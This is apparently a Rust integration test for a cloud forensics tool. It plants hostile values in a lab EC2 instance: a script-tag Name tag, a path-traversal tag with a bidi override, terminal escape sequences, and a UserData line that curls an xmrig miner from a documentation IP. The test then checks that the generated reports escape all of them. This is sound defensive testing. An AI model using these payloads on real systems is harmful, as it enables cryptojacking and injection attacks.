//! The report of a real acquisition: the lab's cryptomining incident, with hostile
//! values planted in the suspect's account (a Name tag carrying `<script>`, UserData
//! and console output carrying terminal escape sequences, `../` and markup), acquired
//! with `--no-analysis`, verified, reported in three formats, printed by headless
//! chromium, and re-verified with the very commands the report prints.

use std::path::Path;
use std::process::Command;

use base64::Engine;
use cleanroom::aws::s3::S3Store;
use cleanroom::evidence::store::ObjectStore;
use cleanroom::lab::scenario::{self, Suspect};
use cleanroom::text::is_unsafe;

use super::browser::{self, squeeze};
use crate::support::*;

/// What the attacker named the instance: markup that would run if not escaped.
const NAME_TAG: &str = "<script>document.write('SCRIPT'+'RAN')</script>";
/// A tag value with a path traversal and a bidi override (tags hold no control
/// characters: EC2 answers in XML, which cannot carry them).
const PATH_TAG: &str = "../../../etc/cron.d/evil\u{202e}fdp.exe";
/// UserData: any bytes. Terminal escapes that retitle the window and clear the
/// screen, markup, and a traversal.
const USER_DATA: &str = "#!/bin/bash\n# \u{1b}]0;pwned\u{7}\u{1b}[2J<img src=x>\ncurl -s http://203.0.113.66/x/xmrig -o ../../tmp/.cache/xmrig\n";
/// Console output with a carriage-return overwrite and a colour escape.
const CONSOLE: &str = "[    0.000000] Linux version 5.15.0-1051-aws\n[   14.500000] xmrig[1337]: ok\rFAILED \u{1b}[31mred\u{1b}[0m\n";

struct Incident {
    f: Forensics,
    suspect: Suspect,
    _work: tempfile::TempDir,
}

impl Incident {
    /// The cryptomining incident, then the hostile values planted over it.
    async fn seed() -> Self {
        let f = Forensics::seed().await;
        let work = tempfile::tempdir().unwrap();
        let member = unique_account();
        let suspect =
            scenario::cryptomining(lab(), &member, &region(), &f.account, work.path()).await.unwrap();
        let c = clients(&suspect.account);
        c.ec2
            .create_tags()
            .resources(suspect.instance.as_str())
            .tags(aws_sdk_ec2::types::Tag::builder().key("Name").value(NAME_TAG).build())
            .tags(aws_sdk_ec2::types::Tag::builder().key("Path").value(PATH_TAG).build())
            .send()
            .await
            .unwrap();
        c.ec2
            .modify_instance_attribute()
            .instance_id(suspect.instance.as_str())
            .user_data(
                aws_sdk_ec2::types::BlobAttributeValue::builder()
                    .value(aws_smithy_types::Blob::new(
                        base64::engine::general_purpose::STANDARD.encode(USER_DATA),
                    ))
                    .build(),
            )
            .send()
            .await
            .unwrap();
        lab()
            .admin_put_bytes(
                &format!("/_lab/instances/{}/console-output", suspect.instance),
                &suspect.account,
                &region(),
                CONSOLE.into(),
            )
            .await
            .unwrap();
        Self { f, suspect, _work: work }
    }

    fn store(&self) -> S3Store {
        S3Store::new(self.f.clients().s3, self.f.config.forensics.evidence_bucket.clone())
    }
}

/// Nothing a terminal acts on: no control character but line breaks and tabs, no bidi.
#[track_caller]
fn inert_on_a_terminal(what: &str, text: &str) {
    let bad: Vec<char> = text.chars().filter(|c| is_unsafe(*c) && *c != '\n' && *c != '\t').collect();
    assert!(bad.is_empty(), "{what} holds {bad:?}");
}

fn run_inert(run: Run) -> Run {
    inert_on_a_terminal(&format!("stdout of {:?}", run.args), &run.stdout());
    inert_on_a_terminal(&format!("stderr of {:?}", run.args), &run.stderr());
    run
}

/// The AWS CLI configured as a third party with read access would be: the forensics
/// role, assumed from the lab's credentials (kept in a profile: credentials in the
/// environment would win over the role).
fn aws_cli_env(f: &Forensics, dir: &Path) -> Vec<(String, String)> {
    let lab_env = lab().env(REGION);
    let value = |name: &str| lab_env.iter().find(|(k, _)| *k == name).map(|(_, v)| v.clone()).unwrap();
    let config = dir.join("aws-config");
    let role = f.config.forensics.role_arn.as_ref().expect("the lab config names the role");
    std::fs::write(
        &config,
        format!(
            "[profile lab]\naws_access_key_id = {}\naws_secret_access_key = {}\n\n[profile forensics]\nrole_arn = {role}\nsource_profile = lab\nregion = {REGION}\n",
            value("AWS_ACCESS_KEY_ID"),
            value("AWS_SECRET_ACCESS_KEY")
        ),
    )
    .unwrap();
    let venv_bin = Path::new(env!("CARGO_MANIFEST_DIR")).join("lab/.venv/bin");
    let path = format!("{}:{}", venv_bin.display(), std::env::var("PATH").unwrap_or_default());
    let mut env: Vec<(String, String)> = lab_env
        .into_iter()
        .filter(|(k, _)| !matches!(*k, "AWS_CONFIG_FILE" | "AWS_ACCESS_KEY_ID" | "AWS_SECRET_ACCESS_KEY"))
        .map(|(k, v)| (k.to_owned(), v))
        .collect();
    env.push(("AWS_CONFIG_FILE".into(), config.display().to_string()));
    env.push(("AWS_PROFILE".into(), "forensics".into()));
    env.push(("PATH".into(), path));
    env
}

/// Runs `lines` with bash (`set -euo pipefail`) in `dir`; returns stdout.
fn bash(dir: &Path, env: &[(String, String)], lines: &[String]) -> String {
    let script = format!("set -euo pipefail\n{}\n", lines.join("\n"));
    let out = Command::new("bash")
        .arg("-c")
        .arg(&script)
        .current_dir(dir)
        .env_clear()
        .envs(env.iter().cloned())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the report's commands failed:\n{script}\n--- stdout\n{}\n--- stderr\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// Every `# expected: X` of `lines` (its first word) printed by them.
#[track_caller]
fn expectations_met(lines: &[String], output: &str) {
    let mut checked = 0;
    for line in lines {
        if let Some((_, expected)) = line.split_once("# expected: ") {
            let word = expected.split_whitespace().next().unwrap();
            let word = word.strip_prefix("sha256:").unwrap_or(word);
            assert!(output.contains(word), "{line}\nexpected {word:?} in the output:\n{output}");
            checked += 1;
        }
    }
    assert!(checked >= 5, "the commands say what they must print: {lines:#?}");
}

#[tokio::test]
async fn report_of_a_hostile_acquisition_is_plain_language_inert_print_ready_and_its_commands_reverify() {
    let w = Incident::seed().await;
    let case = "IR-REPORT-LAB-1";
    let id = w.suspect.instance.to_string();
    run_inert(w.f.cleanroom(&[
        "--examiner",
        "Jane Doe",
        "acquire",
        &w.suspect.arn(),
        "--case",
        case,
        "--no-analysis",
    ]))
    .success();
    run_inert(w.f.cleanroom(&["verify", "--case", case])).success();
    let out = tempfile::tempdir().unwrap();
    let file = |ext: &str| out.path().join(format!("report.{ext}"));
    for format in ["json", "md", "html"] {
        let path = file(format);
        run_inert(w.f.cleanroom(&[
            "report",
            "--case",
            case,
            "--format",
            format,
            "-o",
            path.to_str().unwrap(),
        ]))
        .success();
    }
    // On the terminal too (stdout), every form is inert.
    let on_terminal = run_inert(w.f.cleanroom(&["report", "--case", case, "--format", "md"]));
    on_terminal.success().stdout_has("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J");

    // JSON: the data as found, and the story in sentences.
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(file("json")).unwrap()).unwrap();
    let inst = &json["summary"]["instances"][0];
    assert_eq!(inst["instance"], id.as_str());
    assert_eq!(inst["name"], NAME_TAG, "the name is kept exactly as found");
    assert_eq!(inst["tags"]["Path"], PATH_TAG);
    assert_eq!(inst["containment"], "verified");
    assert_eq!(json["summary"]["verification_status"], "verified");
    let sentences: Vec<&str> =
        json["timeline"].as_array().unwrap().iter().map(|e| e["sentence"].as_str().unwrap()).collect();
    let isolated = sentences
        .iter()
        .find(|s| s.contains(&format!("removed every network path of {id}")))
        .unwrap_or_else(|| panic!("no isolation sentence in {sentences:#?}"));
    assert!(isolated.contains("Jane Doe (role CleanroomForensics)"), "{isolated}");
    assert!(isolated.contains("on its network interface eni-"), "{isolated}");
    assert!(isolated.contains("; AWS request ids "), "{isolated}");
    assert!(
        isolated.contains(&format!("{id} (\"<script>document.write")),
        "the name is shown quoted: {isolated}"
    );
    assert!(
        sentences.iter().any(|s| s.contains("one crash-consistent snapshot set of its 2 volume(s)")),
        "{sentences:#?}"
    );
    assert!(
        sentences
            .iter()
            .any(|s| s.contains("CloudTrail records its launch") && s.contains(&w.suspect.access_key))
    );
    for e in json["timeline"].as_array().unwrap() {
        let line = e["ir_log"].as_str().unwrap();
        let b = line.as_bytes();
        let shape = b.len() > 23
            && b[0] == b'['
            && b[1..5].iter().all(u8::is_ascii_digit)
            && &line[5..6] == "-"
            && &line[11..12] == " "
            && &line[17..23] == " UTC] ";
        assert!(shape, "not an IR log line: {line}");
    }
    let user_data = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "user_data")
        .expect("a UserData finding");
    assert!(user_data["excerpt"].as_str().unwrap().contains("\u{1b}]0;pwned"), "the excerpt holds the bytes");
    for item in json["items"].as_array().unwrap() {
        assert!(item["commands_note"].is_null(), "{item:#}");
        assert!(item["status_ok"].as_bool().unwrap(), "{item:#}");
    }

    // HTML and Markdown: escaped, shown as data; the markup is the report's own.
    let html = std::fs::read_to_string(file("html")).unwrap();
    browser::only_our_markup(&html).unwrap_or_else(|e| panic!("{e}"));
    assert!(html.contains("&lt;script&gt;document.write(&#39;SCRIPT&#39;+&#39;RAN&#39;)&lt;/script&gt;"));
    assert!(html.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J&lt;img src=x&gt;"));
    inert_on_a_terminal("the HTML report", &html);
    let md = std::fs::read_to_string(file("md")).unwrap();
    let prose = browser::markdown_outside_code(&md);
    assert!(
        !prose.to_ascii_lowercase().contains("<script") && !prose.contains('<'),
        "raw markup in the Markdown"
    );
    assert!(
        md.contains("\n    # \\u{1b}]0;pwned\\u{7}\\u{1b}[2J<img src=x>\n"),
        "UserData in a code block:\n{md}"
    );
    assert!(md.contains("\"&lt;script&gt;document.write('SCRIPT'+'RAN')&lt;/script&gt;\""), "quoted as data");
    inert_on_a_terminal("the Markdown report", &md);

    // Printed by a real browser: the values are text on the page, nothing ran, nothing
    // was fetched, and the first page tells the story.
    let page = browser::render(&file("html"), "lab-report");
    let text = page.squeezed();
    assert!(text.contains(&squeeze(NAME_TAG)), "the name shows as text:\n{}", page.text);
    assert!(!text.contains("SCRIPTRAN"), "the attacker's script ran");
    assert!(
        text.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J<imgsrc=x>"),
        "escapes show as text:\n{}",
        page.text
    );
    assert!(text.contains("ok\\rFAILED\\u{1b}[31mred"), "{}", page.text);
    assert!(text.contains("../../../etc/cron.d/evil\\u{202e}fdp.exe"), "{}", page.text);
    assert!(page.page_fetches.is_empty(), "the report fetched {:?}", page.page_fetches);
    let first = squeeze(&page.first_page).to_lowercase();
    for part in [
        "1.summary",
        "dideverythingverify?everythingverified",
        "whathappenedtowhichinstances",
        &format!("{id}<script>"),
        "cuteverynetworkpathonitsnetworkinterface",
        "frozeits2disk(s)inonecrash-consistentsnapshotset",
        "whatwaspreserved,where,forhowlong",
        "objectlockcompliancemode,1dayfromeachwrite",
        "whodidwhat",
        "janedoe(rolecleanroomforensics)",
        "page1of",
    ] {
        assert!(first.contains(part), "page 1 lacks {part:?}:\n{}", page.first_page);
    }
    assert!(page.pages > 3, "sections start on new pages");

    // No S3 key holds anything the suspect wrote.
    let keys = w.store().list("").await.unwrap();
    assert!(keys.len() > 10, "{keys:?}");
    for key in &keys {
        assert!(
            !key.contains("..")
                && !key.contains('<')
                && !key.contains("script")
                && !key.contains("evil")
                && !key.chars().any(is_unsafe),
            "suspect data in the key {key:?}"
        );
    }

    // The commands the report prints re-verify an item with the AWS CLI, sha256sum,
    // jq and openssl: the public key from KMS first, then the UserData item.
    let dir = tempfile::tempdir().unwrap();
    let env = aws_cli_env(&w.f, dir.path());
    let key_step: Vec<String> =
        json["reverify"][0]["commands"].as_str().unwrap().lines().map(str::to_owned).collect();
    assert!(key_step[0].starts_with("aws kms get-public-key"), "{key_step:?}");
    let printed = bash(dir.path(), &env, &key_step);
    expectations_met_loose(&key_step, &printed);
    let item = json["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["name"] == "userdata.bin")
        .expect("the UserData item");
    let commands: Vec<String> =
        item["commands"].as_array().unwrap().iter().map(|c| c.as_str().unwrap().to_owned()).collect();
    let printed = bash(dir.path(), &env, &commands);
    expectations_met(&commands, &printed);
    assert!(printed.contains("Verified OK"), "{printed}");
    assert_eq!(
        std::fs::read(dir.path().join("item-07-userdata.bin")).unwrap(),
        USER_DATA.as_bytes(),
        "the item downloaded is the UserData"
    );
}

/// The key step prints one expectation (the fingerprint).
#[track_caller]
fn expectations_met_loose(lines: &[String], output: &str) {
    for line in lines {
        if let Some((_, expected)) = line.split_once("# expected: ") {
            let word = expected.split_whitespace().next().unwrap();
            assert!(output.contains(word), "{line}\nexpected {word:?} in:\n{output}");
        }
    }
}
